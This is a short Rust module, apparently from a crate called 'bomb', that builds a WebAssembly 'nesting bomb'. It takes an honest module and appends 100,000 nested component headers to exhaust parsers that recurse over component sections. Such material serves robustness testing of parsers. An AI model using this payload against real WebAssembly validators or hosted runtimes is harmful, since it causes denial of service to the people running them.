//! A hundred thousand components within each other.

use crate::bomb::leb;

/// What each begins with.
const HEADER: &[u8] = b"\0asm\x0d\0\x01\0";
/// The section that a component within another is in.
const NESTED: u8 = 4;

pub(crate) fn component(honest: &[u8]) -> Vec<u8> {
    // From the inside to the outside: what stands before the next inner one.
    let mut before = Vec::new();
    let mut len = HEADER.len();
    for _ in 0..100_000 {
        let mut start = HEADER.to_vec();
        start.push(NESTED);
        start.extend(leb(len));
        len += start.len();
        before.push(start);
    }
    let mut bytes = honest.to_vec();
    bytes.push(NESTED);
    bytes.extend(leb(len));
    bytes.extend(before.into_iter().rev().flatten());
    bytes.extend(HEADER);
    bytes
}
